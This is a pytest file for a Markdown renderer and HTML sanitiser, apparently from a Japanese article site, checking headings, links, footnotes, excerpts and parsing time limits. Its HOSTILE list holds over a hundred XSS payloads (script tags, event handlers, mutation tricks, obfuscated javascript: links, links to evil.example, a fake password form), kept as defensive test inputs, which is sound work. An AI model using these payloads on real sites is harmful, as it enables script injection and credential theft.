import time
from contextlib import suppress
from html.parser import HTMLParser

import nh3
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from base.refusals import Refused
from content import markup
from content.markup import excerpt, plain_text, render
from content.markup_limits import FOOTNOTES, MARKS, NESTING, SOURCE_BYTES, marks

ALLOWED = {
    "a": {"href", "title", "class"},
    "img": {"src", "alt", "title"},
    "td": {"align"},
    "th": {"align"},
    "ol": {"start"},
    "li": {"id"},
    "sup": {"id"},
    "div": {"class"},
    **{tag: set() for tag in ("p", "br", "h2", "h3", "h4", "em", "strong", "code", "pre", "blockquote", "hr", "ul")},
    **{tag: set() for tag in ("table", "thead", "tbody", "tr")},
}
OWN_PAGES = ("/contact", "/help", "/search", "/self-check", "/password/forgotten")
TARGETS = ("http://", "https://", "mailto:", "tel:", "/articles/", "/files/", "#article-fn", *OWN_PAGES)


class Inspector(HTMLParser):
    """Says what a browser would find, independently of what cleaned it."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self.tags: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        if tag not in ALLOWED:
            self.faults.append(f"tag {tag}")
            return
        for name, value in attrs:
            if name not in ALLOWED[tag]:
                self.faults.append(f"attribute {name} of {tag}")
            if name == "href" and not (value or "").lower().startswith(TARGETS):
                self.faults.append(f"link {value!r}")
            if name == "src" and not (value or "").startswith("/files/"):
                self.faults.append(f"image {value!r}")
            if name == "id" and not (value or "").startswith("article-fn"):
                self.faults.append(f"id {value!r}")

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        self.faults.append(f"declaration {decl!r}")

    def handle_pi(self, data: str) -> None:
        self.faults.append(f"instruction {data!r}")


def inspected(html: str) -> Inspector:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    '<img src="/files/A" onload="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<style><img title='</style><img src=x onerror=alert(1)>'></style>",
    "<xmp><p title='</xmp><svg/onload=alert(1)>'>",
    "<plaintext><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html;base64,PHNjcmlwdD4='></object>",
    "<embed src='//evil.example/x.swf'>",
    "<base href='//evil.example/'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action='//evil.example/'><input name=password><button>送信</button></form>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;script:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='/\\evil.example/'>x</a>",
    "<a href='https:evil.example'>x</a>",
    "<a href=https://good.example onclick=alert(1) style='position:fixed' target=_top ping=//evil.example>x</a>",
    "<p style='background:url(javascript:alert(1))' id=login class=top>x</p>",
    "<div id='account' name='getElementById' class='banner'>x</div>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE html [<!ENTITY x 'y'>]>&x;",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](\u200bjavascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:https://good.example/1)",
    "[x](//evil.example/)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](/staff/articles/delete)",
    "[x](/articles/../staff/)",
    "[x](/articles/%2e%2e/staff/)",
    "[x](/files//evil.example)",
    "[x](https://good.example@evil.example/)",
    "[x](https://)",
    "[x](http:///evil.example)",
    "[x](mailto:a@b.example\nBcc:c@d.example)",
    '[x](https://good.example/ "a\\" onmouseover=\\"alert(1)")',
    '[x](https://good.example/"onmouseover="alert(1))',
    "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "<ftp://evil.example/>",
    "![x](https://evil.example/pixel.png)",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![x](javascript:alert(1))",
    "![x](/files/../articles/x)",
    "![x](/articles/ABC)",
    '![x" onerror="alert(1)](/files/ABC)',
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "[x]: javascript:alert(1)\n\n[x]",
    '[^javascript:alert(1)] [^"><script>]\n\n[^javascript:alert(1)]: <script>\n[^"><script>]: x',
    "[^login]\n\n[^login]: [x](javascript:alert(1))",
    "|<script>|[x](javascript:1)|\n|:-|-:|\n|<svg onload=1>|`<script>`|",
    "# <script>alert(1)</script>\n\n<h1>x</h1>",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "\x02klzzwxh:0\x03<script>\x02klzzwxh:1\x03",
    "\x02amp\x03lt;script\x02amp\x03gt;",
    "<a@b.example><script>",
    "<\u017fcript>alert(1)</\u017fcript>",
    "＜script＞alert(1)＜/script＞",
    "\u202e<tpircs>\u202c",
    "\ud800<script>\udfff",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "&#0;&#x110000;&#xD800;<b>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_becomes_harmless_html(text: str) -> None:
    """E1, R7-4: written as Markdown, in a table cell, in a list, and behind a link."""
    for source in (text, f"|a|\n|-|\n|{text}|", f"- {text}\n\n> {text}", f"[{text}](https://good.example/)"):
        assert inspected(render(source)).faults == []


@pytest.mark.parametrize("text", HOSTILE)
def test_the_cleaners_alone_stop_what_the_parser_would_let_through(text: str) -> None:
    """E1: raw HTML handed to the two cleaners as if Markdown had produced it."""
    cleaned = markup._clean(text.encode("utf-8", "replace").decode())
    assert inspected(cleaned).faults == []


def test_both_cleaners_are_in_line() -> None:
    """E1: the first keeps the words of what it strips, the second would drop a script with its words."""
    assert markup._clean('<script>1</script><a title="x" href="https://good.example">y</a>') == (
        '1<a title="x" href="https://good.example">y</a>'
    )


@pytest.mark.parametrize("text", HOSTILE)
def test_a_third_cleaning_finds_nothing_left(text: str) -> None:
    """E1: what a browser builds from the HTML and writes out again is the same HTML (no mutation)."""
    html = render(text)
    assert nh3.clean(html, tags=set(ALLOWED), attributes=ALLOWED, link_rel=None) == html


PIECES = st.sampled_from(
    [*HOSTILE, "\n\n", "\n", "    ", "> ", "- ", "1. ", "|", "`", "*", "_", "[", "](", ")", "<", "&"]
)


@settings(deadline=None)
@given(st.lists(PIECES | st.text(max_size=20), max_size=8).map("".join))
def test_whatever_goes_in_nothing_forbidden_comes_out(source: str) -> None:
    """E1."""
    assert inspected(render(source)).faults == []


@settings(deadline=None)
@given(st.text())
def test_any_text_renders(source: str) -> None:
    """E1, R8-3: no input is an error of ours."""
    assert inspected(render(source)).faults == []


def test_raw_html_is_shown_as_the_author_typed_it() -> None:
    """R7-4, E1: nothing typed disappears, nothing typed runs."""
    assert render("a <b>太字</b> <script>1</script>") == (
        "<p>a &lt;b&gt;太字&lt;/b&gt; &lt;script&gt;1&lt;/script&gt;</p>"
    )


@pytest.mark.parametrize(
    ("source", "html"),
    [
        ("# 停止\n\n## 時間\n\n### 画面\n\n###### 注", "<h2>停止</h2>\n<h3>時間</h3>\n<h4>画面</h4>\n<h4>注</h4>"),
        ("停止\n===\n\n時間\n---", "<h2>停止</h2>\n<h3>時間</h3>"),
        ("## 停止\n\n### 時間", "<h2>停止</h2>\n<h3>時間</h3>"),
        ("### 停止\n\n##### 時間", "<h2>停止</h2>\n<h4>時間</h4>"),
        ("一行目\n二行目", "<p>一行目<br>\n二行目</p>"),
        ("**重要** と *注意*", "<p><strong>重要</strong> と <em>注意</em></p>"),
        (
            "***両方*** __太字__ _斜体_ a_b_c",
            "<p><strong><em>両方</em></strong> <strong>太字</strong> <em>斜体</em> a_b_c</p>",
        ),
        ("**太字と*斜体*と** 2 * 3 * 4", "<p><strong>太字と<em>斜体</em>と</strong> 2 * 3 * 4</p>"),
        ("`a*b*` ``c`d``", "<p><code>a*b*</code> <code>c`d</code></p>"),
        ("- 甲\n- 乙", "<ul>\n<li>甲</li>\n<li>乙</li>\n</ul>"),
        ("3. 甲\n4. 乙", '<ol start="3">\n<li>甲</li>\n<li>乙</li>\n</ol>'),
        ("> 引用", "<blockquote>\n<p>引用</p>\n</blockquote>"),
        ("[手順](https://good.example/a?b=1&c=2#d)", '<p><a href="https://good.example/a?b=1&amp;c=2#d">手順</a></p>'),
        ("[記事](/articles/0ABC9DEFGHJK)", '<p><a href="/articles/0ABC9DEFGHJK">記事</a></p>'),
        ("[資料](/files/0ABC9DEFGHJK)", '<p><a href="/files/0ABC9DEFGHJK">資料</a></p>'),
        ("[窓口](mailto:desk@good.example)", '<p><a href="mailto:desk@good.example">窓口</a></p>'),
        ("![図](/files/0ABC9DEFGHJK)", '<p><img alt="図" src="/files/0ABC9DEFGHJK"></p>'),
        ("|a|\n|-|\n|甲<br>乙|", "<td>甲<br>\n乙</td>"),
        ("|a|b|\n|:-|-:|\n|1|2|", '<th align="left">a</th>\n<th align="right">b</th>'),
        ("[注1]: ここは本文です", "<p>[注1]: ここは本文です</p>"),
        ("[社外](javascript:alert(1))", "<p><a>社外</a></p>"),
    ],
)
def test_markdown_gives_the_html_of_an_article(source: str, html: str) -> None:
    """R7-4: tables, headings below the page's own h1, links, images, lists."""
    assert html in render(source)


def test_footnotes_lead_there_and_back_without_taking_ids_of_the_page() -> None:
    """R7-4, E1: the label an author chose (`account`) never becomes an id."""
    html = render("本文[^account]と[^2]と[^account]。\n\n[^account]: 一\n[^2]: 二")
    assert 'id="article-fnref-1"><a class="footnote-ref" href="#article-fn-1">1</a>' in html
    assert '<li id="article-fn-2">' in html
    assert 'id="article-fnref2-1"' in html
    assert 'href="#article-fnref2-1" title="本文の注1に戻る"' in html
    assert 'id="account"' not in html


@pytest.mark.parametrize(
    ("source", "word"),
    [
        ("あ" * (SOURCE_BYTES // 3 + 1), "長すぎ"),
        ("> " * (NESTING + 1) + "a", "階層"),
        (">" * (NESTING + 1), "階層"),
        ("- " * (NESTING + 1) + "a", "階層"),
        ("1. " * 1000, "階層"),
        ("\n".join("    " * depth + "- a" for depth in range(NESTING + 1)), "21行目"),
        ("\n".join("\t" * depth + "- a" for depth in range(100)), "階層"),
        ("[" * 1500, "括弧"),
        ("[" * 10_000, "多すぎ"),
        ("![" * 1500, "括弧"),
        ("[a](" * 1500, "括弧"),
        ('[a](b "' * 1500, "括弧"),
        ("```\n\\" * 500 + "あ" * 5000, "括弧"),
        ("# a\n" * 600 + "あ" * 5000, "空行"),
        ("*a* " * MARKS, "多すぎ"),
        ("a\n" * (MARKS + 2), "多すぎ"),
        ("[^1] " * (FOOTNOTES + 1), "脚注"),
    ],
)
def test_text_that_would_take_too_long_is_refused_with_what_to_change(source: str, word: str) -> None:
    """E17, R8-3."""
    with pytest.raises(Refused) as refusal:
        render(source)
    assert word in refusal.value.reason


@pytest.mark.parametrize(
    "source",
    [
        "あ" * (SOURCE_BYTES // 3),
        "> " * NESTING + "a",
        "- " * NESTING + "a",
        "\n".join("    " * depth + "- a" for depth in range(NESTING)),
        "|甲|乙|丙|\n|-|-|-|\n" + "|1|2|3|\n" * 400,
        "- [手順](/articles/ABC)\n" * 300,
        "\n\n".join(["[注] 一段落です。(参考)"] * 500),
        "`画面` を開きます。" * 700,
        "[^1] " * (FOOTNOTES - 1) + "\n\n[^1]: 注",
    ],
)
def test_long_ordinary_articles_are_accepted(source: str) -> None:
    """R7-4, E17: the limits don't touch what people write."""
    assert render(source)


UNITS = [
    "[",
    "]",
    "![",
    "[a](",
    "[a](b ",
    "(",
    "[a]((",
    "*",
    "**",
    "_",
    "__",
    "*a ",
    "_a_ ",
    "**a ",
    "***a",
    "***a **b* ",
    "`",
    "``a ",
    "`a",
    "\\",
    "<",
    "<a",
    "<a@",
    "<http://a",
    "<a@b.c> ",
    "&",
    "&#",
    "&amp;",
    "|",
    "|a",
    "a|b\n",
    "\n",
    " ",
    "\u3000",
    "\t",
    "> ",
    "- ",
    "1. ",
    "#",
    "#a",
    "# #",
    "\\#",
    "[^",
    "[^1]",
    "[^1]: a\n",
    "[a]: b\n",
    "[a][b] ",
    "*_",
    "***",
    "___",
    '"',
    "'",
    "[a](<",
    '[a]("',
    "[a](b 'c",
    "\\[",
    "あ",
    "\\`",
    "||",
    "\\|",
    "|`",
    "<br>",
    "a __b ",
    "a _b ",
    "**a ***b ",
    "```\n\\",
    "a\n",
    "a\n\n",
    "# a\n",
    "a\n===\n",
    "---\n",
    "```\n",
    "~~~a\n",
    "* a\n\n",
    "- a\n\n    b\n\n",
    "    a\n",
    "a|b\n-|-\n",
    "> a\n",
    "- # a\n",
    "[a]:\n",
    "<!--",
    "<![CDATA[",
    "<?",
    "</",
    "<div>",
    "\x02",
    "\r",
    "\x0c",
    "\u2028",
]


def seconds_of_cpu(source: str) -> float:
    before = time.process_time()
    with suppress(Refused):
        render(source)
    return time.process_time() - before


def test_no_repetition_costs_more_than_the_largest_ordinary_article() -> None:
    """E17: each hostile text is refused at once or costs no more than a few times a long table, whatever the machine."""
    table = "|a|b|\n|-|-|\n" + "|**甲**|[乙](/articles/ABC)|\n" * 200
    ordinary = min(seconds_of_cpu(table) for _ in range(3))
    assert marks(table) < MARKS
    for unit in UNITS:
        admitted = max(1, MARKS // max(1, marks(unit * 10) // 10) - 1)
        times = min(admitted, 200_000 // len(unit.encode()))
        assert seconds_of_cpu(unit * times) < 12 * ordinary, unit
        assert seconds_of_cpu(unit * min(times, 400) + "a " * 60_000) < 12 * ordinary, unit


def test_plain_text_has_the_words_and_nothing_else() -> None:
    """R7-5."""
    html = render(
        "# 停止\n\n設備*更新*のため[^1]&停止。\n改行\n\n|甲|乙|\n|-|-|\n|1|<2>|\n\n![図1](/files/ABC)\n\n[^1]: 注です"
    )
    assert plain_text(html) == "停止\n設備更新のため1&停止。\n改行\n甲 乙\n1 <2>\n図1\n注です"


@pytest.mark.parametrize(
    ("length", "expected"),
    [(100, "計画停止 12月5日です。"), (13, "計画停止 12月5日です。"), (12, "計画停止 12月5日で…"), (5, "計画停止…")],
)
def test_an_excerpt_is_one_line_of_at_most_that_length(length: int, expected: str) -> None:
    """R7-5."""
    assert excerpt("<h2>計画停止</h2>\n<p>12月5日です。</p>", length) == expected


@settings(deadline=None)
@given(st.text(), st.integers(min_value=1, max_value=50))
def test_an_excerpt_never_exceeds_its_length(source: str, length: int) -> None:
    """R7-5."""
    assert len(excerpt(render(source), length)) <= length
